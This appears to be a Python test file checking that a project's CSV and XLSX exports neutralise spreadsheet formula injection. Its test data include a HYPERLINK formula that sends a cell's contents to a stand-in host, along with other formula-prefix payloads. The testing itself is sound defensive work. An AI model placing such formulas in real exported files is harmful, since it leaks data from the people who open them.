"""Exports neutralise text a spreadsheet would run as a formula: CSV cells get a leading quote, XLSX cells are
string cells; numbers (negative ones too) stay numbers. One export of each domain that writes people or names."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from jangkau.funding.reports import statement_xlsx
from jangkau.kit.spreadsheet import csv_writer, safe_cell
from jangkau.linkage.lists.read import arrow_to_csv, write_csv
from jangkau.linkage.outcome import EXPORT_COLUMNS, outcome_csv, outcome_xlsx
from jangkau.reporting.exports import export_table

EVIL = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+62 812 0000", "-1", "@SUM(A1:A9)", "\tTab", "\rCR"]


NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def inert_csv(text: str) -> list[list[str]]:
    """The rows; no cell but a plain number starts with a formula character."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            assert NUMBER.match(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    return rows


def unxml(value: Any) -> Any:
    """A carriage return comes back from XLSX as a line feed (openpyxl) or escaped (XlsxWriter)."""
    return value.replace("_x000D_", "\r").replace("\n", "\r") if isinstance(value, str) else value


def inert_xlsx(data: bytes) -> list[Any]:
    """Every cell holding one of EVIL is a string cell with the text as given; returns all values."""
    book = load_workbook(io.BytesIO(data))
    values = []
    assert book.worksheets
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if unxml(cell.value) in EVIL:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                values.append(unxml(cell.value))
    return values


def test_safe_cell_touches_only_risky_text() -> None:
    assert [safe_cell(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert safe_cell(-1) == -1
    assert safe_cell("Budi - Medan") == "Budi - Medan"
    assert safe_cell(None) is None
    out = io.StringIO()
    csv_writer(out).writerow([*EVIL, -5, 3.5])
    assert inert_csv(out.getvalue())[0][-2:] == ["-5", "3.5"]


def _report(name: str) -> dict[str, Any]:
    campaign = {"name": name, "region_code": "12.71", "starts_on": dt.date(2026, 1, 1), "ends_on": dt.date(2026, 6, 30),
                "as_of": dt.date(2026, 3, 1), "target": 100, "registered": -1, "paid": 0, "progress": 0.0}  # fmt: skip
    return {
        "region": {"name": "Kota Medan", "code": "12.71"},
        "month": "2026-03",
        "freshness": {"refreshed_at": None, "refresh_pending": False},
        "outreach": {"campaigns": [campaign]},
    }


@pytest.mark.parametrize("name", EVIL)
def test_reporting_exports(name: str) -> None:
    rows = inert_csv(export_table(_report(name), "campaigns", "csv").decode("utf-8"))
    assert rows[1][0] == "'" + name
    values = inert_xlsx(export_table(_report(name), "campaigns", "xlsx"))
    assert name in values
    assert -1 in values  # a negative number stays a number


def test_funding_statement_xlsx() -> None:
    workers = [{"nik": "1271010101900001", "name": n, "village": "Aur", "months": ["2026-01"], "protected_months": [],
                "billed": -16800} for n in EVIL]  # fmt: skip
    bills = [{"reference": "=1+1", "month": "2026-01", "due_on": dt.date(2026, 1, 15), "amount": 1, "paid": 0,
              "outstanding": 1}]  # fmt: skip
    values = inert_xlsx(statement_xlsx({"workers": workers, "bills": bills}))
    assert set(EVIL) <= set(values)
    assert "=1+1" in values
    assert -16800 in values


def read(path: Path) -> str:
    with path.open(encoding="utf-8", newline="") as handle:
        return handle.read()


def test_linkage_outcome_and_list_files(tmp_path: Path) -> None:
    rows = [dict.fromkeys(EXPORT_COLUMNS, "") | {"line": i, "name": n, "person_name": n, "outcome": "covered"}
            for i, n in enumerate(EVIL)]  # fmt: skip
    outcome = {"rows": {"covered": rows, "pending": [], "lapsed": [], "not_registered": [], "in_review": []},
               "counts": {"covered": len(rows)}, "basis": "test"}  # fmt: skip
    assert [r[3] for r in inert_csv(outcome_csv(outcome))[1:]] == ["'" + n for n in EVIL]
    assert set(EVIL) <= set(inert_xlsx(outcome_xlsx(outcome)))
    write_csv(tmp_path / "rejected.csv", ["line", "name"], [[-1, n] for n in EVIL])
    written = inert_csv(read(tmp_path / "rejected.csv"))
    assert [r[0] for r in written[1:]] == ["-1"] * len(EVIL)
    arrow_to_csv(tmp_path / "links.csv", pa.table({"row_id": EVIL, "person_id": [-1] * len(EVIL)}))
    linked = inert_csv(read(tmp_path / "links.csv"))
    assert [r[0] for r in linked[1:]] == ["'" + n for n in EVIL]
    assert {r[1] for r in linked[1:]} == {"-1"}


def test_outreach_visits_export() -> None:
    from types import SimpleNamespace

    from jangkau.outreach.cli import visits_csv

    rows = [(SimpleNamespace(id=i, visited_on=dt.date(2026, 3, 1), village_code="12.71.01.1001", outcome="visited",
                             follow_up_on=None, note=n),
             SimpleNamespace(id=i, full_name=n, rt="-1"), n) for i, n in enumerate(EVIL)]  # fmt: skip
    written = inert_csv(visits_csv(rows))
    assert [r[4] for r in written[1:]] == ["'" + n for n in EVIL]
